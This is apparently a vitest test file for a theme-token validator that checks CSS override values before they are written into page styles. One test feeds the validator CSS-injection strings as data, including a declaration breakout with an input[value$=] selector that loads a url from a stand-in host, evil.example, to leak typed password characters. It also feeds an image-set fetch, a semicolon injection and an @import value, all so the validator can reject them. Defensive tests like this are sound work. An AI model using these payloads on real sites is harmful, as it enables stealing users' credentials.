import { describe, expect, it } from 'vitest';
import { parseAll } from './shape';
import { clientThemeShape, cssTokenProblem, themeShape } from './themeShape';

const problems = (overrides: unknown, shape = themeShape(['default', 'midnight'])) => parseAll(shape, { name: 'default', overrides }).problems.map((p) => `${p.path}: ${p.message}`);

describe('theme tokens written into the page styles', () => {
  it('takes plain values: fonts with quotes, radii, shadows with colours', () => {
    expect(problems({ font: { family: "'Inter', system-ui, sans-serif", sizeSm: '13px' }, radius: { lg: '12px' }, shadow: { card: '0 1px 3px rgba(0, 0, 0, 0.2)' }, colors: { primary: 'rgb(10 20 30 / 50%)' } })).toEqual([]);
  });

  it('refuses a value that leaves its declaration or fetches something (attack review of issue 28: CSS that logs a typed password)', () => {
    const escape = '8px}input[value$="a"]{background-image:url(https://evil.example/a)}x{top:0';
    expect(problems({ radius: { lg: escape } })).toEqual(["overrides.radius.lg: must be a plain CSS value (no ; { } < > \\ @, nothing like url(…))"]);
    expect(problems({ font: { family: 'x; background: red' } })).toHaveLength(1);
    expect(problems({ shadow: { card: '0 0 1px image-set("https://evil.example/x" 1x)' } })).toHaveLength(1);
    expect(problems({ colors: { primary: 'rgb(0,0,0);}body{display:none' } })).toHaveLength(1);
    expect(problems({ radius: { sm: 'x'.repeat(201) } })).toEqual(['overrides.radius.sm: must be at most 200 characters']);
    // A service's theme is held to the same rules.
    expect(parseAll(clientThemeShape(['default']), { name: 'default', overrides: { radius: { lg: escape } } }).problems).toHaveLength(1);
  });

  it('names what is wrong', () => {
    expect(cssTokenProblem('4px')).toBeNull();
    expect(cssTokenProblem('@import x')).toMatch(/plain CSS value/);
  });
});
